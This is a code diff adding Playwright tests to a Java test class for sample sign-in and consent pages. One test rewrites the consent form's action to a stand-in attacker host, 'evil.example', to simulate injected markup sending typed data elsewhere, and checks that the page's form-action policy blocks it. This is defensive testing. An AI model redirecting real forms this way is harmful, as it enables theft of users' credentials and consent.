@@ -159,6 +159,51 @@ class SignInPagesLookTest {
         assertThat(problems).isEmpty();
     }
 
+    /// What a script adds where there can be a passkey.
+    @Test
+    void hasAPlaceForAPasskey() {
+        try (BrowserContext context = browser.newContext()) {
+            serve(context, new SamplePages(Language.ENGLISH, "Contoso").all());
+            com.microsoft.playwright.Page page = context.newPage();
+            page.navigate(HERE + "/sign-in");
+            page.evaluate("document.getElementById('passkey').hidden = false");
+            assertThat(page.isVisible("#passkey button")).isTrue();
+            assertThat(page.getAttribute("#passkey", "data-options")).isEqualTo("{\"a\":1}");
+            page.screenshot(
+                    new com.microsoft.playwright.Page.ScreenshotOptions()
+                            .setPath(TARGET.resolve("screenshots/passkey.png")));
+        }
+    }
+
+    /// The attack: markup that got into a page sends its form, with what was typed, elsewhere. The
+    /// control is the form that goes where the page says.
+    @ParameterizedTest
+    @CsvSource({"https://app.example/cb, true", "https://evil.example/cb, false"})
+    void sendsItsFormsNowhereElse(String action, boolean sent) {
+        try (BrowserContext context = browser.newContext()) {
+            serve(context, new SamplePages(Language.ENGLISH, "Contoso").all());
+            com.microsoft.playwright.Page page = context.newPage();
+            List<String> asked = new ArrayList<>();
+            List<String> refused = new ArrayList<>();
+            page.onRequest(request -> asked.add(request.url()));
+            page.exposeFunction("refused", told -> refused.add((String) told[0]));
+            page.navigate(HERE + "/consent");
+            page.evaluate(
+                    """
+                    to => {
+                        document.querySelector('form').action = to;
+                        document.addEventListener('securitypolicyviolation',
+                            event => refused(event.effectiveDirective));
+                    }
+                    """,
+                    action);
+            page.evaluate("setTimeout(() => document.querySelector('[value=allow]').click())");
+            page.waitForCondition(() -> asked.contains(action) || !refused.isEmpty());
+            assertThat(asked.contains(action)).isEqualTo(sent);
+            assertThat(refused).isEqualTo(sent ? List.of() : List.of("form-action"));
+        }
+    }
+
     private static String name(Language language) {
         return switch (language) {
             case ENGLISH -> "Contoso Orders";
